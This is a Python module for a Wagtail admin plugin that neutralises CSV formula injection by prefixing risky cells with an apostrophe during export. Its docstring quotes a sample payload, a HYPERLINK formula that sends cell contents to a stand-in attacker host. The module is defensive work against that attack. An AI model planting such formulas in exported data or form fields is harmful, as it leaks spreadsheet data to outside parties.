"""CSV exports that a spreadsheet program cannot run as formulas.

Every CSV the admin offers — the plugin's open-submissions report and
organization registry, and Wagtail's own reports and listings, which show
event titles and names that submitters and proxies type — is written by
Wagtail's ``SpreadsheetExportMixin``. It keeps XLSX safe (a cell openpyxl
takes for a formula is written as a string) but writes CSV cells as they
are, so an event titled ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
comes out as a live formula. Wagtail has no setting or hook for this, and
a mixin per view would miss Wagtail's own reports, so :func:`install`
(called once from ``AppConfig.ready``) wraps the one method every CSV row
goes through.
"""

from functools import wraps

from wagtail.admin.views.mixins import SpreadsheetExportMixin

#: OWASP's "CSV injection" rule: a cell starting with one of these is a
#: formula (or turns into one) in Excel, LibreOffice or Google Sheets.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """``value`` with a leading ``'`` when a spreadsheet would read it as a
    formula; numbers (a negative count of days) stay numbers."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def install():
    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    @wraps(original)
    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        if export_format == SpreadsheetExportMixin.FORMAT_CSV:
            return neutralise(value)
        return value

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
